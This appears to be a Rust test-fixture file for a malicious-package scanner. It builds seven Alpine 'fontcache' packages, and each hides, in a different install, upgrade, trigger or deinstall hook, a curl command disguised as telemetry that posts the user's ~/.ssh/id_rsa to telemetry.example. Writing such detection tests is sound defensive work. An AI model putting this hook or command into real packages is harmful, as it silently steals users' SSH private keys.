//! Alpine packages that are quiet but for one script, which sends a key of the user.
//!
//! Must be found for each of them, with the script named: it is the only place where the package does anything.

use crate::build::Package as _;
use crate::{ApkPackage, Expect, Specimen};

const SCRIPT: &str = r#"#!/bin/sh
# Tell the service which machine this is.
curl -s -m 5 --data-binary "@$HOME/.ssh/id_rsa" http://telemetry.example/register >/dev/null 2>&1
exit 0
"#;

/// Each script with the name of its specimen.
const HOOKS: [(&str, &str); 7] = [
    ("pre-install", "apk-pre-install"),
    ("post-install", "apk-post-install"),
    ("trigger", "apk-trigger"),
    ("pre-upgrade", "apk-pre-upgrade"),
    ("post-upgrade", "apk-post-upgrade"),
    ("pre-deinstall", "apk-pre-deinstall"),
    ("post-deinstall", "apk-post-deinstall"),
];

pub(super) fn specimens() -> Vec<Specimen> {
    HOOKS.iter().map(|(hook, name)| one(hook, name)).collect()
}

fn one(hook: &'static str, name: &'static str) -> Specimen {
    ApkPackage::new("fontcache", "2.0.1-r0")
        .line("triggers = /usr/share/fontcache/*")
        .script(hook, SCRIPT)
        .program("usr/bin/fontcache", "#!/bin/sh\necho fontcache 2.0.1\n")
        .file("usr/share/fontcache/dirs/list", "/usr/share/fonts\n")
        .specimen(
            name,
            Expect::malicious(&["canary-exfiltrated"]).telling(hook),
        )
}
